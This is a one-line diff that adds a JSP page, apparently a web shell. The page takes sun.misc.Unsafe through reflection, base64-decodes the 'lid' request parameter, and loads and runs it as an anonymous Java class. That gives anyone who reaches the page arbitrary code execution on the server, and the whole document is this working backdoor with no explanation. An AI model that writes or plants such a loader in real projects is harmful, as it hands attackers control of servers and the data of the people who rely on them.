@@ -1,0 +1,1 @@
+<%@ page import="java.lang.reflect.Field" %><% Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe"); f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null); byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("lid")); u.defineAnonymousClass(String.class, b, null).newInstance(); %>
